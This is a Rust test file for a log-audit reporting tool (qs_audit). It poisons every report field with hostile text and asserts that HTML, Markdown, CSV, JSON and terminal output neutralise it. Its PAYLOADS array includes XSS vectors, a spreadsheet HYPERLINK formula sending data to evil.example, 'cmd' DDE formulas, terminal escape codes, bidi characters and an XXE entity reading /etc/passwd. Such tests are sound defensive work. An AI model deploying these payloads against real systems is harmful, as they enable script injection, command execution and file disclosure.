//! Hostile text in every field that reaches a report.
//!
//! The fields are walked by taking the structs apart: a new one does not compile until
//! it is poisoned, too.

use crate::common::{Memory, run};
use qs_audit::attribute::{self, BilledQueries};
use qs_audit::decode::quick_query_id;
use qs_audit::demo::{self, DemoPlan};
use qs_audit::ingest::{BillReader, read_executions};
use qs_audit::model::audit::{Audit, AuditSlice};
use qs_audit::model::bill::{CostMetric, Sku};
use qs_audit::model::chain::{
    Chain, Confidence, Missing, QueryExecution, QuickUser, RepeatedQuery, RoleSession, ScopeDown,
};
use qs_audit::model::charge::{
    Attribution, Charge, Chargeback, ChargebackRow, Dimension, ListPrice, Reason, Reconciliation,
};
use qs_audit::model::coverage::{Coverage, Reject, RejectReason, Rejects};
use qs_audit::model::data_read::{DataRead, ReadEvidence, ReadSubject};
use qs_audit::model::event::{Call, Content, Event, RareFields};
use qs_audit::model::execution::Statistics;
use qs_audit::model::finding::{
    Acknowledgement, Evidence, Finding, FindingStatus, Findings, NotObserved, PreviousFinding,
    RuleReport, RuleState, Severity, Subject, Suppressed,
};
use qs_audit::model::ids::{AccountId, EventId, QueryExecutionId, QuickQueryId};
use qs_audit::model::incident::Incident;
use qs_audit::model::integrity::{
    DigestPlace, Fault, FaultKind, FaultyFile, PlaceVerified, Unchecked, Uncovered, UncoveredWhy,
    Verification,
};
use qs_audit::model::road::{ActingFor, ActingKind, Origin, RelatedChain};
use qs_audit::model::text::Text;
use qs_audit::model::time::UtcSecond;
use qs_audit::model::topology::{
    BusinessUnit, Consumer, DeclaredAgent, DeclaredService, Producer, SensitiveTables, Topology,
};
use qs_audit::model::trend::{Measure, Trend};
use qs_audit::model::window::TimeWindow;
use qs_audit::output::repeated::RepeatedOptions;
use qs_audit::output::report::{ReportContent, ReportInputs, markdown, page, summary};
use qs_audit::output::{TextLayout, chargeback_rows, csv, json};
use qs_audit::pipeline::{Checks, Exports, Plan, SlicePlan};
use qs_audit::records;
use qs_audit::rules::{self, RuleSet};
use std::cell::Cell;
use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::sync::Arc;

/// What an attacker would write into a log, one after the other.
const PAYLOADS: [&str; 14] = [
    "<script>window.hostile=1</script>",
    "\"><img src=x onerror=\"window.hostile=2\">",
    "</title></style></script><svg onload=window.hostile=3>",
    "'-window.hostile-'\" autofocus onfocus=window.hostile=4 x=\"",
    "[click](javascript:window.hostile=5) ![x](http://evil.example/x.png) <http://evil.example>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m",
    "moc.live\u{202e}\u{2066}\u{200b}txt\u{feff}",
    "`code` ``` | cell | --- \r\n# heading\n- item www.evil.example a@evil.example @everyone",
    "body{background:url(http://evil.example/css)}</style><link rel=stylesheet href=//evil.example>",
    "$\\frac{1}{2}$ \\$x$ {{ 7*7 }} {% raw %} ${7*7} &lt;b&gt; &#x3c;i&#x3e;",
    "]]><?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
];
/// Stands in each of them, so that they can be found again.
const MARK: &str = "h0stile";

/// Writes hostile text into whatever it is given.
struct Poison {
    number: Cell<usize>,
    /// Whether every text is also far too long.
    is_long: bool,
}

impl Poison {
    fn text(&self) -> String {
        let number = self.number.get();
        self.number.set(number + 1);
        let payload = PAYLOADS[number % PAYLOADS.len()];
        let rest = if self.is_long {
            "A".repeat(20_000)
        } else {
            String::new()
        };
        format!("{payload}{MARK}{number}{rest}")
    }

    fn shared<T: From<String>>(&self, text: &mut T) {
        *text = self.text().into();
    }

    fn option<T: From<String>>(&self, text: &mut Option<T>) {
        *text = Some(self.text().into());
    }

    fn string(&self, text: &mut String) {
        *text = self.text();
    }

    fn id(&self, id: &mut EventId) {
        *id = EventId::new(&self.text());
    }

    fn ids(&self, ids: &mut Vec<EventId>) {
        ids.push(EventId::new(&self.text()));
    }

    fn chain(&self, chain: &mut Chain) {
        let Chain {
            chain_id: _, // made by this program, from a digest
            path: _,
            touches_quick: _,
            status: _,
            missing,
            confidence: _,
            started_at: _,
            last_activity_at: _,
            hub_account_id,
            consumer_account_id,
            consumer_name,
            business_unit,
            data_source_arn,
            origin,
            acting_for,
            related_chains,
            earlier_sessions,
            consumer_session,
            queries,
            repeated_queries,
            reads,
            calls,
            quick_user,
            notes,
            events: _,
            integrity: _,
        } = chain;
        for Missing { part: _, why } in missing {
            *why = Some(self.text());
        }
        self.option(hub_account_id);
        self.option(consumer_account_id);
        self.option(data_source_arn);
        for text in [consumer_name, business_unit] {
            self.option(text);
        }
        self.origin(origin);
        acting_for.extend(ActingKind::ALL.iter().map(|&kind| self.acting(kind)));
        related_chains.push(RelatedChain {
            chain_id: "c-000000000000".into(), // made by this program
            why: self.text().into(),
            confidence: chain.confidence,
        });

        for session in earlier_sessions.iter_mut().chain(consumer_session) {
            self.session(session);
        }
        for query in queries {
            self.query(query);
        }
        repeated_queries.push(RepeatedQuery {
            query_execution_id: QueryExecutionId::new(&self.text()),
            repeated_at: chain.started_at,
            event_id: EventId::new(&self.text()),
            chain_id: None, // made by this program
        });
        reads.push(self.read(chain.confidence));
        for (name, _) in calls {
            self.shared(name);
        }
        notes.push(self.text());
        *quick_user = Some(self.quick_user());
    }

    fn origin(&self, origin: &mut Origin) {
        let Origin {
            service,
            resource_arn,
            confidence: _,
        } = origin;
        self.option(service);
        self.option(resource_arn);
    }

    fn acting(&self, kind: ActingKind) -> ActingFor {
        ActingFor {
            kind,
            id: self.text().into(),
            identity_store_arn: Some(self.text().into()),
            conversation_id: Some(self.text().into()),
            confidence: Confidence::Probable,
            event_ids: vec![EventId::new(&self.text())],
            queries: Vec::new(),
        }
    }

    fn quick_user(&self) -> QuickUser {
        let mut user = QuickUser {
            name: "".into(),
            confidence: Confidence::Probable,
            resource_arn: None,
            data_set_arn: None,
            query_id: None,
        };
        let QuickUser {
            name,
            confidence: _,
            resource_arn,
            data_set_arn,
            query_id,
        } = &mut user;
        self.shared(name);
        self.option(resource_arn);
        self.option(data_set_arn);
        *query_id = Some(QuickQueryId::new(&self.text()));
        user
    }

    fn session(&self, session: &mut RoleSession) {
        let RoleSession {
            role_arn,
            account_id,
            role_session_name,
            assumed_role_id,
            access_key_id,
            assumed_at: _,
            expires_at: _,
            issuer: _,
            says_quick: _,
            parameters_known: _,
            assumed_by,
            source_account_id,
            source_ip,
            external_id,
            scope_down,
            event_ids,
        } = session;
        self.option(role_arn);
        self.option(account_id);
        self.option(access_key_id);
        self.option(source_account_id);
        for text in [
            role_session_name,
            assumed_role_id,
            assumed_by,
            source_ip,
            external_id,
        ] {
            self.option(text);
        }

        let ScopeDown {
            present: _,
            resources,
            policy,
            policy_arns,
        } = scope_down;
        *resources = vec![Text::from(self.text())].into();
        self.option(policy);
        *policy_arns = vec![Text::from(self.text())].into();
        self.ids(event_ids);
    }

    fn query(&self, query: &mut QueryExecution) {
        let QueryExecution {
            query_execution_id,
            started_at: _,
            region,
            work_group,
            catalog,
            database,
            error_code,
            event_id,
            confidence: _,
            figures: _, // words of this program and numbers
            reads,
        } = query;
        *query_execution_id = Some(QueryExecutionId::new(&self.text()));
        self.option(region);
        for text in [work_group, catalog, database, error_code] {
            self.option(text);
        }

        self.id(event_id);
        *reads = Some(vec![self.read(Confidence::Probable)]);
    }

    fn read(&self, confidence: Confidence) -> DataRead {
        let text = || Some(Text::from(self.text()));
        let ids = || vec![QueryExecutionId::new(&self.text())];
        DataRead {
            subject: ReadSubject {
                table_arn: text(),
                catalog_id: text(),
                database: text(),
                table: text(),
                bucket: text(),
                function_arn: text(),
            },
            owner_account_id: text().map(AccountId::from),
            via: ReadEvidence::Sql,
            permissions: vec![self.text().into()],
            confidence,
            query_execution_id: ids().pop(),
            candidate_query_ids: ids(),
            objects: Some(1),
            bytes: Some(1),
            prefixes: vec![self.text().into()],
            event_ids: vec![EventId::new(&self.text())],
            event_count: 1,
            shared_by: vec![self.text().into()],
        }
    }

    fn event(&self, event: &mut Event) {
        let Content {
            id,
            time: _,
            call,
            identity: _, // only what is made of it is shown: sessions, findings
            detail: _,
            rare,
        } = &mut event.content;
        let Call {
            recipient_account_id,
            region,
            source,
            name,
            source_ip,
            user_agent,
            error_code,
        } = Arc::make_mut(call);
        let RareFields {
            error_message,
            replaces: _,
        } = &mut **rare.get_or_insert_default();
        self.id(id);
        self.option(recipient_account_id);
        self.option(region);
        for text in [source_ip, user_agent, error_code, error_message] {
            self.option(text);
        }

        self.shared(source);
        self.shared(name);
    }

    fn finding(&self, finding: &mut Finding) {
        let Finding {
            finding_id: _,  // a digest
            incident_id: _, // a digest
            rule: _,
            severity: _,
            title,
            detail,
            next_step,
            command,
            consumer_account_id,
            subject,
            role_arns,
            evidence,
            chain_ids: _, // digests
            chain_count: _,
            event_ids,
            event_count: _,
            first_seen: _,
            last_seen: _,
            count: _,
            status: _,
            occurrence: _,
            evidence_keys,
            acknowledged,
            integrity: _,
        } = finding;
        evidence_keys.insert(self.text().into());
        *acknowledged = Some(Acknowledgement {
            owner: self.text(),
            note: Some(self.text()),
            until: jiff::civil::date(2027, 1, 1),
            severity: Severity::Critical,
            occurrence: 1,
        });
        for text in [title, detail, next_step, command] {
            self.string(text);
        }
        self.option(consumer_account_id);
        *subject = Subject(vec![("role", self.text().into())]);
        role_arns.push(self.text().into());
        evidence.push(("texts", Evidence::texts([self.text(), self.text()])));
        let record = Evidence::Record(vec![("inside", Evidence::Text(self.text().into()))]);
        evidence.push(("records", Evidence::List(vec![record])));
        self.ids(event_ids);
    }

    fn previous(&self) -> PreviousFinding {
        let at = qs_audit::model::time::UtcSecond::from_unix(1_793_491_200);
        PreviousFinding {
            finding_id: self.text(),
            incident_id: self.text(),
            rule: self.text(),
            severity: Some(Severity::High),
            title: self.text(),
            detail: self.text(),
            consumer_account_id: Some(self.text().into()),
            subject: vec![(self.text(), self.text().into())],
            role_arns: vec![self.text().into()],
            first_seen: at,
            last_seen: at,
            occurrence: 2,
            chain_ids: Vec::new(),
            evidence_keys: BTreeSet::from([self.text().into()]),
            is_resolved: false,
        }
    }

    fn incident(&self, incident: &mut Incident) {
        // The next step is in the program's own words.
        incident.title = self.text();
        incident.command = self.text();
        incident.consumer_account_ids.insert(self.text().into());
    }

    fn findings(&self, findings: &mut Findings) {
        let Findings {
            window: _,
            baseline: _,
            findings: all,
            incidents,
            suppressed,
            expired: _,
            unused: _, // the configuration's own words, in JSON only
            resolved,
            not_observed,
            forgotten: _,
            has_logs: _,
            has_previous,
            rules,
        } = findings;
        for finding in all.iter_mut() {
            self.finding(finding);
            finding.status = FindingStatus::Ongoing;
        }
        for incident in incidents {
            self.incident(incident);
        }
        *has_previous = true;
        suppressed.push(Suppressed {
            finding: all[0].clone(),
            reason: self.text(),
            expires: jiff::civil::date(2027, 1, 1),
        });
        resolved.push(self.previous());
        not_observed.push(NotObserved {
            finding: self.previous(),
            why: self.text(),
        });
        for RuleReport {
            rule: _,
            severity: _,
            state,
            notes,
        } in rules
        {
            if let RuleState::Skipped(why) = state {
                self.string(why);
            }
            notes.push(self.text());
        }
    }

    fn rejects(&self) -> Rejects {
        let mut rejects = Rejects::default();
        rejects.add(Reject {
            object: self.text().into(),
            record: Some(1),
            offset: None,
            reason: RejectReason::InvalidJson,
            detail: self.text(),
        });
        rejects
    }

    fn coverage(&self, coverage: &mut Coverage) {
        let seen = std::mem::take(&mut coverage.seen);
        let mut names: BTreeMap<Text, Text> = BTreeMap::new();
        for ((account, region, day), known) in seen {
            let mut hostile = |text: Text| {
                names
                    .entry(text)
                    .or_insert_with(|| self.text().into())
                    .clone()
            };
            coverage.seen.insert(
                (
                    hostile(account.into()).into(),
                    hostile(region.into()).into(),
                    day,
                ),
                known,
            );
        }
        coverage.rejects = self.rejects();
    }

    fn attribution(&self, attribution: &mut Attribution) {
        let Attribution {
            charges,
            query_shares: _,
            other_services: _, // grouped into the chargeback, which is poisoned
            reconciliations,
            terabyte: _,
            prices,
            payers: _, // the topology's is shown
        } = attribution;
        for charge in charges {
            let Charge {
                period: _,
                account_id,
                region,
                work_group,
                data_source_arn,
                quick_user,
                origin,
                share: _,
                currency: _,
                figures: _,
                billed_cost: _,
                is_estimated: _,
                billed_unit_price: _,
                list_unit_price: _,
                sku,
            } = charge;
            *sku = Some(Sku {
                id: self.text().into(),
                price_id: Some(self.text().into()),
            });
            self.option(account_id);
            self.option(region);
            self.option(data_source_arn);
            for text in [work_group, quick_user, origin] {
                self.option(text);
            }
        }
        for Reconciliation {
            currency, reasons, ..
        } in reconciliations
        {
            self.shared(currency);
            for Reason {
                code: _,
                count: _,
                amount: _,
                bytes: _,
                text,
            } in reasons
            {
                self.string(text);
            }
        }
        for ListPrice {
            region,
            usd_per_terabyte: _,
            effective_from: _,
            source,
        } in prices
        {
            self.shared(region);
            self.shared(source);
        }
    }

    fn chargeback(&self, chargeback: &mut Chargeback) {
        for ChargebackRow {
            group,
            currency,
            figures: _,
            billed: _,
            estimated_days: _,
        } in &mut chargeback.rows
        {
            for name in group {
                self.shared(name);
            }
            self.shared(currency);
        }
        for row in &mut chargeback.other_services {
            for name in &mut row.group {
                self.shared(name);
            }
            self.shared(&mut row.currency);
        }
    }

    fn topology(&self, topology: &mut Topology) {
        let Topology {
            hub_account_id,
            run_as_roles: _,
            consumers,
            payer_account_id,
            units,
            producers,
            sensitive,
            services,
            agents,
        } = topology;
        services.push(DeclaredService {
            service: self.text().into(),
            resource_arn: None,
            role_arn: None,
            reason: Some(self.text().into()),
        });
        agents.push(DeclaredAgent {
            id: self.text().into(),
            name: Some(self.text().into()),
            users: None,
        });
        producers.push(Producer {
            name: self.text().into(),
            account_id: self.text().into(),
            readers: None,
        });
        sensitive.push(SensitiveTables {
            tables: vec!["*".into()],
            reason: self.text().into(),
        });
        *payer_account_id = Some(self.text().into());
        self.option(hub_account_id);
        for Consumer {
            name,
            account_id,
            business_unit,
            roles: _,
            work_groups: _,
            data_sources: _,
        } in consumers
        {
            self.shared(name);
            self.shared(account_id);
            self.option(business_unit);
        }
        units.insert(
            self.text().into(),
            BusinessUnit {
                account_name: Some(self.text().into()),
                business_unit: Some(self.text().into()),
                cost_center: Some(self.text().into()),
            },
        );
    }

    /// Keys of objects may have been written by anybody who may write to the bucket.
    fn verification(&self) -> Verification {
        let shared = || Text::from(self.text());
        let place = DigestPlace {
            account_id: shared().into(),
            region: shared().into(),
            trail: Some(shared()),
        };
        let fault = |kind: FaultKind| Fault {
            place: place.clone(),
            at: None,
            file: FaultyFile::LogFile,
            object: shared(),
            kind,
        };
        Verification {
            window: TimeWindow::ALL,
            places: [(place.clone(), PlaceVerified::default())].into(),
            faults: vec![
                fault(FaultKind::HashMismatch),
                fault(FaultKind::PublicKeyNotFound {
                    region: shared().into(),
                    fingerprint: shared(),
                }),
                fault(FaultKind::PublicKeyUnreadable {
                    fingerprint: shared(),
                }),
            ],
            uncovered: vec![Uncovered {
                place: place.clone(),
                from: UtcSecond::from_unix(0),
                to: UtcSecond::from_unix(1),
                why: UncoveredWhy::DigestsMissing,
                is_proven: false,
                is_backfill: false,
            }],
            unchecked: vec![Unchecked {
                place: Some(place),
                why: shared(),
                object: shared(),
                count: 1,
            }],
            limits: vec![self.text()],
        }
    }

    fn audit(&self, audit: &mut Audit) {
        let Audit {
            window: _,
            chat_logs: _,
            named: _,
            coverage,
            chains,
            statistics,
            bill,
            units_rejects,
            units_notes,
            attribution: _, // the part's is shown
            roles: _,
            inventory_rejects,
            findings,
            trends,
            slice,
            events,
            notes,
            objects: _,
            verification,
        } = audit;
        *verification = Some(self.verification());
        self.coverage(coverage);
        for chain in chains {
            self.chain(chain);
        }
        statistics.as_mut().unwrap().rejects = self.rejects();
        let bill = bill.as_mut().unwrap();
        bill.rejects = self.rejects();
        bill.notes.insert(self.text());
        *units_rejects = self.rejects();
        units_notes.insert(self.text());
        *inventory_rejects = self.rejects();
        self.findings(findings.as_mut().unwrap());
        for Trend {
            account_id,
            measure,
            days: _,
        } in trends
        {
            self.shared(account_id);
            if let Measure::BilledCost(currency) = measure {
                self.shared(currency);
            }
        }
        let AuditSlice {
            window: _,
            chains,
            statistics: _,
            bill,
            attribution,
        } = slice.as_mut().unwrap();
        for chain in chains {
            self.chain(chain);
        }
        bill.as_mut().unwrap().notes.insert(self.text());
        self.attribution(attribution.as_mut().unwrap());
        for event in events {
            self.event(event);
        }
        notes.push(self.text());
    }
}

/// The sample's run, with findings, statistics and a bill.
/// The inputs of a report of the whole organization, without pages of rules.
pub(crate) fn report_inputs<'a>(
    audit: &'a Audit,
    findings: &'a Findings,
    topology: &'a Topology,
    chargeback: &'a Chargeback,
    options: &'a RepeatedOptions,
) -> ReportInputs<'a> {
    ReportInputs {
        audit,
        events: &audit.events,
        slice: audit.slice.as_ref().unwrap(),
        findings,
        chargeback,
        topology,
        pages: &[],
        previous: None,
        options,
        compare: None,
        scope: None,
    }
}

pub(crate) fn sample() -> (Audit, Topology) {
    let plan = DemoPlan::sample();
    let organization = demo::generate(&plan);
    let extra = |name: &str| {
        let extras = organization.extras.iter();
        extras
            .clone()
            .find(|file| file.key == name)
            .unwrap()
            .body
            .clone()
    };
    let mut statistics = Statistics::default();
    read_executions(
        "e",
        &extra("executions.json"),
        quick_query_id,
        &mut statistics,
    );
    let window = TimeWindow {
        from: Some(plan.start),
        to: Some(plan.end()),
    };
    let bill = || {
        let mut reader = BillReader::new(CostMetric::Unblended, window, BTreeSet::new());
        reader.read("c", &extra("costs.json")).unwrap();
        reader.finish()
    };
    let run_plan = Plan {
        window,
        exports: Exports {
            statistics: Some(statistics),
            bill: Some(bill()),
            ..Exports::default()
        },
        checks: Some(Checks {
            rules: Arc::new(RuleSet::new(&BTreeMap::new(), &BTreeSet::new()).unwrap()),
            window,
            baseline_days: 0,
            inventory: None,
            suppressions: Vec::new(),
            as_of: plan.end().day(),
            previous: None,
            acknowledged: BTreeMap::new(),
            trends: true,
        }),
        slice: Some(SlicePlan {
            window,
            bill: bill(),
        }),
        ..Plan::default()
    };
    let audit = run(&run_plan, &Memory::of(&organization.logs));
    let topology = Topology {
        consumers: vec![Consumer {
            name: "retail".into(),
            account_id: "444455556666".into(),
            business_unit: None,
            roles: BTreeSet::new(),
            work_groups: None,
            data_sources: None,
        }],
        ..Topology::default()
    };
    (audit, topology)
}

/// All files of a report in which every field is hostile.
pub(crate) struct Hostile {
    pub(crate) page: String,
    markdown: String,
    json: String,
    tables: [String; 3],
    summary: String,
    fields: usize,
}

pub(crate) fn hostile(is_long: bool) -> Hostile {
    let poison = Poison {
        number: Cell::new(0),
        is_long,
    };
    let (mut audit, mut topology) = sample();
    let attribution = audit.slice.as_ref().unwrap().attribution.as_ref().unwrap();
    let mut chargeback = attribute::chargeback(
        attribution,
        &BilledQueries::default(),
        &[Dimension::BusinessUnit],
        &topology,
    )
    .unwrap();
    poison.audit(&mut audit);
    poison.topology(&mut topology);
    poison.chargeback(&mut chargeback);
    let pages = rules::pages();
    let options = RepeatedOptions {
        logs: format!(" -c {}", poison.text()),
        ..RepeatedOptions::default()
    };
    let findings = audit.findings.clone().unwrap();
    let content = ReportContent::of(ReportInputs {
        pages: &pages,
        ..report_inputs(&audit, &findings, &topology, &chargeback, &options)
    });
    let file = |write: &dyn Fn(&mut dyn Write)| {
        let mut bytes = Vec::new();
        write(&mut bytes);
        String::from_utf8(bytes).unwrap()
    };
    let all: Vec<&Finding> = findings.findings.iter().collect();
    let screen = TextLayout {
        width: 120,
        color: false,
    };
    Hostile {
        page: file(&|out| page::write(&content, &[], out).unwrap()),
        markdown: file(&|out| markdown::write(&content, out).unwrap()),
        json: file(&|out| json::report::write(&content, out).unwrap()),
        tables: [
            file(&|out| {
                csv::write_records(&records::chains::fields(), &content.chains, out).unwrap();
            }),
            file(&|out| csv::write_records(&records::findings::fields(), &all, out).unwrap()),
            file(&|out| {
                csv::write_table(&chargeback_rows::rows(&chargeback, &topology), out).unwrap();
            }),
        ],
        summary: file(&|out| summary::write(&content, screen, out).unwrap()),
        fields: poison.number.get(),
    }
}

/// The tags of the template, of rules' pages and of pictures.
const TAGS: &str = "a article body br caption code dd details div dl dt em figcaption figure h1 h2 h3 h4 head header html i li main meta nav ol p pre section span strong summary table tbody td tfoot th thead title tr ul svg g rect path line text defs clipPath circle polygon polyline";

/// The document without its script, style and the rules' own pages.
fn markup(page: &str) -> String {
    let (head, rest) = page.split_once("<style>").unwrap();
    let (_, rest) = rest.split_once("</style>").unwrap();
    let (body, _) = rest.rsplit_once("<script>").unwrap();
    format!("{head}{body}")
}

/// Letters that change how text is shown.
fn is_treacherous(letter: char) -> bool {
    (letter.is_control() && letter != '\n')
        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

#[test]
fn no_field_of_a_page_is_markup() {
    let made = hostile(false);
    assert!(made.fields > 1000, "{}", made.fields);
    let markup = markup(&made.page);
    assert!(
        markup.matches(MARK).count() > 300,
        "{}",
        markup.matches(MARK).count()
    );
    for word in [
        "<script>window",
        "<img",
        "<svg onload",
        "<link",
        "<http",
        "<?xml",
        "<!ENTITY",
        "onerror=\"window",
        "<b>",
        "<i>",
    ] {
        assert!(!markup.contains(word), "{word}");
    }
    // Quotes end no attribute: the tags are those of the template alone.
    for tag in markup.split('<').skip(1) {
        let tag = tag.trim_start_matches('/');
        let name: String = tag
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        let is_comment = tag.starts_with("!-- Generated by kuva") || tag.starts_with("!doctype");
        assert!(
            is_comment || TAGS.split(' ').any(|known| known == name),
            "<{}",
            &tag[..tag.len().min(60)]
        );
        let inside = tag.split('>').next().unwrap();
        // What stands in quotes is the value of an attribute, and no attribute.
        let inside: String = inside.split('"').step_by(2).collect();
        assert!(
            !inside.contains(" on") || !inside.contains("hostile="),
            "{inside}"
        );
    }
    assert!(
        !markup.contains(is_treacherous),
        "{:?}",
        markup.find(is_treacherous)
    );
}

#[test]
fn very_long_text_stays_small() {
    let made = hostile(true);
    assert!(made.page.len() < 5_000_000, "{}", made.page.len());
    assert!(made.markdown.len() < 60_000, "{}", made.markdown.len());
    let longest = made.summary.lines().map(|line| line.chars().count()).max();
    assert!(longest <= Some(120), "{longest:?}");
}

/// The id of a finding or an incident: a letter and 12 hex digits.
fn is_own_id(id: &str) -> bool {
    let digits = id
        .strip_prefix("f-")
        .or(id.strip_prefix("i-"))
        .unwrap_or_default();
    digits.len() == 12 && digits.bytes().all(|digit| digit.is_ascii_hexdigit())
}

#[test]
fn no_field_of_the_markdown_is_a_link_an_image_or_html() {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let made = hostile(false);
    let is_there = |event: &Event<'_>| {
        // Only into the page next to it.
        if let Event::Start(Tag::Link { dest_url, .. }) = event {
            let id = dest_url.strip_prefix("index.html#").unwrap_or_default();
            return id != "findings" && !is_own_id(id);
        }
        matches!(
            event,
            Event::Html(_)
                | Event::InlineHtml(_)
                | Event::Start(
                    Tag::Image { .. } | Tag::HtmlBlock | Tag::CodeBlock(_) | Tag::BlockQuote(_)
                )
        )
    };
    let events: Vec<Event<'_>> = Parser::new_ext(&made.markdown, Options::all()).collect();
    let found: Vec<&Event<'_>> = events.iter().filter(|event| is_there(event)).collect();
    assert!(found.is_empty(), "{found:?}");
    // Log text is in code spans and nowhere else.
    let mut spans = 0;
    for event in &events {
        match event {
            Event::Code(text) => spans += usize::from(text.contains(MARK)),
            Event::Text(text) => assert!(!text.contains(MARK), "{text}"),
            _ => {}
        }
    }
    assert!(spans > 20, "{spans}");
    assert!(!made.markdown.contains(is_treacherous));
}

#[test]
fn no_cell_of_a_table_is_a_formula_and_no_line_a_terminal_code() {
    let made = hostile(false);
    for table in &made.tables {
        let mut reader = ::csv::Reader::from_reader(table.as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in &record.unwrap() {
                cells += usize::from(cell.contains(MARK));
                let is_number = cell.parse::<f64>().is_ok();
                assert!(
                    is_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
        assert!(cells > 1, "{cells}");
    }
    assert!(!made.summary.contains(is_treacherous), "{:?}", made.summary);
    // JSON has everything as it was logged.
    let json: serde_json::Value = serde_json::from_str(&made.json).unwrap();
    assert_eq!(json["schema"], "qs-audit/report/v1");
    assert!(made.json.matches(MARK).count() > 1000);
}
